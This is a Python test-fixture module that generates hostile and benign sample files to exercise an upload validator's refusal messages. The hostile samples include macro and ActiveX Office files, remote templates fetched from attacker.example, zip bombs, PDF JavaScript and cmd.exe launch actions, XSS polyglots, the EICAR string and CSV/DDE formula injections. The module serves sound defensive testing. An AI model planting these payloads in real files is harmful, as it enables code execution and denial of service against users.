"""Hostile and benign files, every one made here in memory (no binary fixture in the repo).

The EICAR anti-virus test string is assembled from parts, so the repository never holds it
whole and a virus scanner on a developer's machine does not quarantine this file.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
MiB = 1024 * 1024


@dataclass(frozen=True)
class Sample:
    name: str
    make: Callable[[], bytes]
    reason: str  # words the refusal must contain (empty for benign files)


# --- building blocks ------------------------------------------------------------------


def image(fmt: str, size: tuple[int, int] = (40, 30), **options: object) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    mode = "P" if fmt == "GIF" else "RGB"
    Image.new(mode, size, 7 if mode == "P" else (15, 61, 94)).save(buffer, fmt, **options)
    return buffer.getvalue()


def png_text(text: str) -> bytes:
    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", text)
    buffer = io.BytesIO()
    Image.new("RGB", (20, 20)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def png_header_only(width: int, height: int, *, idat: bool = True) -> bytes:
    """A PNG whose header claims ``width`` by ``height`` with (almost) no pixel data."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(b"\x00" * 16)) if idat else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + body + chunk(b"IEND", b"")


@cache
def docx() -> bytes:
    from docx import Document

    document = Document()
    document.add_heading("Seal procedure", 1)
    document.add_paragraph("Affix a high-security seal meeting ISO 17712 before departure.")
    document.add_picture(io.BytesIO(image("PNG")))
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@cache
def xlsx(formula: bool = False) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["unit", "seals"])
    sheet.append(["T-101", 3])
    if formula:
        sheet["B3"] = "=SUM(B2:B2)"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def with_parts(base: bytes, parts: dict[str, bytes], content_types: bytes = b"") -> bytes:
    """``base`` (a ZIP) with ``parts`` added and ``content_types`` put in [Content_Types]."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml" and content_types:
                data = data.replace(b"</Types>", content_types + b"</Types>")
            target.writestr(info.filename, data)
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


@cache
def zeros_zip(entries: int, size: int, *, name: str = "word/part{}.xml") -> bytes:
    """A ZIP of ``entries`` parts of ``size`` zero bytes each (written in chunks)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        for index in range(entries):
            with archive.open(name.format(index), "w", force_zip64=size > 2**31) as part:
                for _ in range(size // MiB):
                    part.write(b"\x00" * MiB)
                part.write(b"\x00" * (size % MiB))
    return out.getvalue()


@cache
def docx_bomb() -> bytes:
    """A .docx whose one part expands to 200 MiB."""
    return zeros_zip(1, 200 * MiB, name="word/document{}.xml")


def encrypted_part_docx() -> bytes:
    """A .docx with one part flagged as encrypted (bit 0 of its general-purpose flags)."""
    name = b"word/secret.xml"
    data = bytearray(with_parts(docx(), {name.decode(): b"<x/>"}))
    for signature, flags_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        at = data.find(signature)
        while at >= 0:
            if data[at + name_at : at + name_at + len(name)] == name:
                data[at + flags_at] |= 0x1
            at = data.find(signature, at + 4)
    return bytes(data)


def odt(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", b"<office:document-content/>")
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def ole(marker: str) -> bytes:
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + marker.encode("utf-16-le")
        + b"\x00" * 512
    )


def pdf(catalog_extra: bytes = b"", objects: tuple[bytes, ...] = (), tail: bytes = b"") -> bytes:
    """A one-page PDF; ``objects`` are numbered from 4."""
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, obj in enumerate(body, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + obj + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(body) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(body) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out) + tail


def pdf_object_stream_js() -> bytes:
    inner = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")
    stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(inner)).encode()
        + b" >>\nstream\n"
        + inner
        + b"\nendstream"
    )
    return pdf(b"/OpenAction 5 0 R", (stream,))


@cache
def weasyprint_pdf() -> bytes:
    import weasyprint

    return weasyprint.HTML(string="<h1>Seal log</h1><p>March, 42 seals.</p>").write_pdf()


def template_rels(target: bytes) -> dict[str, bytes]:
    return {
        "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="r1" Type="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="' + target + b'" TargetMode="External"/></Relationships>'
    }


# --- the suites -----------------------------------------------------------------------

MACROS = "macros or ActiveX"
EMBEDDED = "embedded object"
PROGRAM = "program or script"
BOMB = "zip bomb"
ACTIVE_PDF = "active content"
TWO_THINGS = "two things at once"
WEB_PAGE = "web page (HTML)"
EICAR_REASON = "EICAR anti-virus test string"
FORMULA = "runs as a formula"

HOSTILE: list[Sample] = [
    # Office containers
    Sample(
        "macro-renamed.docx",
        lambda: with_parts(docx(), {"word/vbaProject.bin": ole("_VBA_PROJECT")}),
        MACROS,
    ),
    Sample(
        "macro-renamed.xlsx",
        lambda: with_parts(xlsx(), {"xl/vbaProject.bin": b"\x00" * 64}),
        MACROS,
    ),
    Sample(
        "macro-content-type.docx",
        lambda: with_parts(
            docx(),
            {},
            b'<Override PartName="/word/document.xml" ContentType="application/'
            b'vnd.ms-word.document.macroEnabled.main+xml"/>',
        ),
        MACROS,
    ),
    Sample(
        "xlm-macrosheet.xlsx",
        lambda: with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
        MACROS,
    ),
    Sample(
        "activex.docx",
        lambda: with_parts(docx(), {"word/activeX/activeX1.bin": b"\x00" * 32}),
        MACROS,
    ),
    Sample(
        "embedded-exe.docx",
        lambda: with_parts(docx(), {"word/embeddings/setup.exe": b"MZ\x90\x00" + b"\x00" * 64}),
        PROGRAM,
    ),
    Sample(
        "embedded-program-renamed.docx",
        lambda: with_parts(docx(), {"word/embeddings/Package.dat": b"MZ\x90\x00" + b"\x00" * 64}),
        PROGRAM,
    ),
    Sample(
        "embedded-script.xlsx",
        lambda: with_parts(xlsx(), {"xl/embeddings/run.js": b"WScript.Shell"}),
        PROGRAM,
    ),
    Sample(
        "ole-object.docx",
        lambda: with_parts(docx(), {"word/embeddings/oleObject1.bin": ole("Ole")}),
        EMBEDDED,
    ),
    Sample(
        "ole-renamed.xlsx",
        lambda: with_parts(xlsx(), {"xl/media/image9.emf": ole("Package")}),
        EMBEDDED,
    ),
    Sample(
        "nested-macro.docx",
        lambda: with_parts(
            docx(), {"word/embeddings/Doc1.docx": with_parts(docx(), {"word/vbaProject.bin": b"x"})}
        ),
        MACROS,
    ),
    Sample(
        "remote-template.docx",
        lambda: with_parts(docx(), template_rels(b"http://attacker.example/t.dotm")),
        "from another computer",
    ),
    Sample(
        "unc-template.docx",
        lambda: with_parts(docx(), template_rels(b"\\\\attacker.example\\share\\t.dotm")),
        "from another computer",
    ),
    Sample("zip-bomb.docx", docx_bomb, BOMB),
    Sample(
        "zip-bomb.xlsx", lambda: zeros_zip(1, 200 * MiB, name="xl/worksheets/sheet{}.xml"), BOMB
    ),
    Sample(
        "many-small-parts-bomb.xlsx",
        lambda: zeros_zip(120, MiB, name="xl/worksheets/sheet{}.xml"),
        BOMB,
    ),
    Sample(
        "nested-bomb.docx",
        lambda: with_parts(
            docx(),
            {
                f"word/embeddings/Sheet{i}.xlsx": zeros_zip(40, MiB, name="xl/p{}.xml")
                for i in range(3)
            },
        ),
        BOMB,
    ),
    Sample(
        "too-many-parts.xlsx",
        lambda: with_parts(xlsx(), {f"xl/p/{i}.xml": b"" for i in range(5001)}),
        "parts",
    ),
    Sample("password-part.docx", encrypted_part_docx, "password-protected"),
    Sample(
        "eicar-inside.docx", lambda: with_parts(docx(), {"word/notes.txt": EICAR}), EICAR_REASON
    ),
    Sample(
        "basic-macro.odt", lambda: odt({"Basic/Standard/Module1.xml": b"<script:module/>"}), MACROS
    ),
    Sample("macro.doc", lambda: ole("_VBA_PROJECT_CUR"), MACROS),
    Sample("package.doc", lambda: ole("\x01Ole10Native"), EMBEDDED),
    # PDF with active content
    Sample(
        "javascript.pdf",
        lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        ACTIVE_PDF,
    ),
    Sample("js-only.pdf", lambda: pdf(b"/Names << /JS 4 0 R >>", (b"<< /S /JS >>",)), ACTIVE_PDF),
    Sample(
        "escaped-name.pdf",
        lambda: pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        ACTIVE_PDF,
    ),
    Sample("launch.pdf", lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), ACTIVE_PDF),
    Sample(
        "embedded-file.pdf",
        lambda: pdf(b"/Names << /EmbeddedFiles 4 0 R >>", (b"<< /Names [] >>",)),
        ACTIVE_PDF,
    ),
    Sample(
        "additional-actions.pdf",
        lambda: pdf(b"/AA << /WC 4 0 R >>", (b"<< /S /Named >>",)),
        ACTIVE_PDF,
    ),
    Sample(
        "rich-media.pdf", lambda: pdf(b"", (b"<< /Type /Annot /Subtype /RichMedia >>",)), ACTIVE_PDF
    ),
    Sample("xfa.pdf", lambda: pdf(b"/AcroForm << /XFA 4 0 R >>", (b"<< >>",)), ACTIVE_PDF),
    Sample("object-stream-js.pdf", pdf_object_stream_js, ACTIVE_PDF),
    Sample(
        "html-after-eof.pdf",
        lambda: pdf(tail=b"<html><script>alert(1)</script></html>"),
        TWO_THINGS,
    ),
    # polyglots
    Sample(
        "gif-js.gif",
        lambda: image("GIF")[:6] + b"/*" + image("GIF")[8:] + b"*/=alert(document.domain);//",
        "GIF",
    ),
    Sample(
        "gif-trailing-js.gif", lambda: image("GIF") + b"=alert(1);", "after the end of the image"
    ),
    Sample(
        "png-html.png", lambda: image("PNG") + b"<html><script>alert(1)</script></html>", TWO_THINGS
    ),
    Sample(
        "png-trailing-data.png",
        lambda: image("PNG") + b"PK\x03\x04payload",
        "after the end of the image",
    ),
    Sample("png-text-script.png", lambda: png_text("<script>alert(1)</script>"), TWO_THINGS),
    Sample(
        "jpeg-comment-script.jpg",
        lambda: image("JPEG", comment=b"<script>alert(1)</script>"),
        TWO_THINGS,
    ),
    Sample("pixel-bomb.png", lambda: png_header_only(12_000, 10_000), "million"),
    # text that is HTML
    Sample(
        "bom.txt",
        lambda: "\ufeff<!DOCTYPE html><html><script>alert(1)</script></html>".encode(),
        WEB_PAGE,
    ),
    Sample(
        "comment.txt",
        lambda: b"<!-- notes -->\n<html><body><script>alert(1)</script></body></html>",
        WEB_PAGE,
    ),
    Sample("whitespace.txt", lambda: b" \r\n\t \n<html><body>hi</body></html>", WEB_PAGE),
    Sample("page", lambda: b"<html><body><script>alert(1)</script></body></html>", WEB_PAGE),
    Sample("note", lambda: b"<!-- x --><p>click</p>", WEB_PAGE),
    Sample(
        "late-script.txt", lambda: b"Seal log\n" * 2000 + b"<script>alert(1)</script>", WEB_PAGE
    ),
    Sample("svg.txt", lambda: b"<svg onload=alert(1)>", WEB_PAGE),
    Sample("latin1-html.txt", lambda: "\xe9t\xe9\n<iframe src=x>".encode("cp1252"), WEB_PAGE),
    # EICAR anywhere
    Sample("eicar.txt", lambda: EICAR, EICAR_REASON),
    Sample("eicar-renamed.pdf", lambda: EICAR, EICAR_REASON),
    Sample("eicar-in-photo.png", lambda: image("PNG") + EICAR, EICAR_REASON),
    Sample("eicar-in-pdf.pdf", lambda: pdf(objects=(b"(" + EICAR + b")",)), EICAR_REASON),
    # CSV formulas
    Sample("dde.csv", lambda: b"ref,note\nA1,=cmd|' /C calc'!A0\n", FORMULA),
    Sample("at-sum.csv", lambda: b"ref,note\nA1,@SUM(1+1)*cmd|' /C calc'!A0\n", FORMULA),
    Sample(
        "plus.csv", lambda: b'ref,note\nA1,"+HYPERLINK(""http://x.example"",""go"")"\n', FORMULA
    ),
    Sample("minus.csv", lambda: b"ref,note\nA1,-2+3+cmd|' /C calc'!A0\n", FORMULA),
    Sample("tab.csv", lambda: b'ref,note\nA1,"\t=1+1"\n', FORMULA),
]

# Refused only where a decodable photo is required (the field-photo endpoint)
NOT_A_PHOTO: list[Sample] = [
    Sample("statement.pdf", lambda: pdf(), "a photo is expected"),
    Sample("procedure.docx", docx, "a photo is expected"),
    Sample("notes.txt", lambda: b"Seal 123 checked", "a photo is expected"),
    Sample(
        "no-pixels.png", lambda: png_header_only(40, 30, idat=False), "cannot be read as an image"
    ),
    Sample("truncated.jpg", lambda: image("JPEG")[:200], "cannot be read as an image"),
    Sample("iphone.heic", lambda: b"\x00\x00\x00\x18ftypheic" + b"\x00" * 100, "HEIC"),
]

BENIGN: list[Sample] = [
    Sample("procedure.docx", docx, ""),
    Sample(
        "local-template.docx",
        lambda: with_parts(docx(), template_rels(b"file:///C:/Users/dispatch/Normal.dotm")),
        "",
    ),
    Sample("register.xlsx", xlsx, ""),
    Sample("with-formula.xlsx", lambda: xlsx(formula=True), ""),
    Sample(
        "with-sheet.docx", lambda: with_parts(docx(), {"word/embeddings/Sheet1.xlsx": xlsx()}), ""
    ),
    Sample("printed.pdf", weasyprint_pdf, ""),
    Sample("minimal.pdf", pdf, ""),
    Sample("opens-at-page.pdf", lambda: pdf(b"/OpenAction [3 0 R /Fit]"), ""),
    Sample("photo.png", lambda: image("PNG"), ""),
    Sample("photo.jpg", lambda: image("JPEG", comment=b"Taken at gate 3"), ""),
    Sample("photo.gif", lambda: image("GIF"), ""),
    Sample("photo.webp", lambda: image("WEBP"), ""),
    Sample("photo.tiff", lambda: image("TIFF"), ""),
    Sample("numbers.csv", lambda: b"ref,amount,phone\nA1,-12.50,+1 613 555 0100\nA2,3,-\n", ""),
    Sample("notes.txt", lambda: "Seal check: 3 < 5 and 6 > 2 — é\n".encode(), ""),
    Sample("odt.odt", lambda: odt({}), ""),
]
PHOTOS = [s for s in BENIGN if s.name.startswith("photo.")]
